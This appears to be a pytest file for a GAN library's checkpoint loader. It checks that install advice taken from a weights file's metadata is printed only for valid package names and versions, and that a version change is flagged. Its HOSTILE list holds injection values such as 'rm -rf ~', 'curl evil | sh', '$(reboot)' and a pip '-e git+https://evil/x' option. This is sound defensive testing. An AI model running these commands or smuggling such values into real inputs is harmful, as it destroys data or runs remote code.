"""Advice never runs code: a weights file names the package that made its plugin, and that text is printed
inside `pip install '...'` only when it is a valid distribution name and version (PEP 508/440); a package
installed here at another version is never advised without saying that it would be replaced."""

import importlib.metadata
import json

import pytest

from ganzoo import GanzooError
from ganzoo.checkpoint import check_installed, pip_requirement
from ganzoo.config import RunConfig

HOSTILE = [
    ("x'; rm -rf ~; echo '", "1.0"),                # a quote ends the shell's string
    ("x", "1.0'; curl evil | sh; echo '"),          # in the version
    ("x$(reboot)", "1.0"),
    ("x`id`", ""),
    ("-e git+https://evil/x", "1"),                 # an option pip would obey
    ("x\nrm -rf ~", "1"),
    ("https://evil.example/x.whl", ""),
    ("x[extra]", "1.0"),                            # extras: not a name
    ("x ; python_version>'3'", "1.0"),              # markers
    ("x", "1.0 || true"),
    ("a" * 200, "1.0"),
]


def metadata_naming(package: str, version: str) -> dict[str, str]:
    record = {"name": "ghost", "plugin": "ghost_plugin", "distribution": package, "version": version}
    return {"ganzoo.plugins": json.dumps({"generator": record})}


@pytest.mark.parametrize("package, version", HOSTILE)
def test_a_file_naming_no_valid_package_gets_no_install_command(package, version):
    assert pip_requirement(package, version) is None
    with pytest.raises(GanzooError) as err:
        check_installed(RunConfig(generator="ghost"), metadata_naming(package, version), "w.safetensors")
    message = str(err.value)
    assert "pip install" not in message
    assert "not a valid package name and version (PEP 508)" in message
    assert "suggests no install command" in message


def test_a_valid_package_is_advised_pinned():
    assert pip_requirement("ganzoo-deep", "0.3.0") == "ganzoo-deep==0.3.0"
    assert pip_requirement("Ganzoo_Deep.x", "1.0.post1") == "Ganzoo_Deep.x==1.0.post1"
    assert pip_requirement("ganzoo-deep", "") == "ganzoo-deep"
    with pytest.raises(GanzooError, match=r"from the package ganzoo-never-installed 0\.3\.0, which is not installed "
                                          r"here; install it \(pip install 'ganzoo-never-installed==0\.3\.0'\)"):
        check_installed(RunConfig(generator="ghost"), metadata_naming("ganzoo-never-installed", "0.3.0"), "w")


def test_a_package_installed_at_another_version_is_not_advised_without_saying_so():
    installed = importlib.metadata.version("pluggy")
    with pytest.raises(GanzooError) as err:
        check_installed(RunConfig(generator="ghost"), metadata_naming("pluggy", "0.1.0"), "w.safetensors")
    message = str(err.value)
    assert f"the pluggy {installed} installed here does not register it" in message
    assert f"would replace {installed} with 0.1.0" in message
    assert message.endswith("in a separate environment, pip install 'pluggy==0.1.0'.")
    with pytest.raises(GanzooError) as err:                 # the same version: nothing to install
        check_installed(RunConfig(generator="ghost"), metadata_naming("pluggy", installed), "w.safetensors")
    assert "pip install" not in str(err.value)
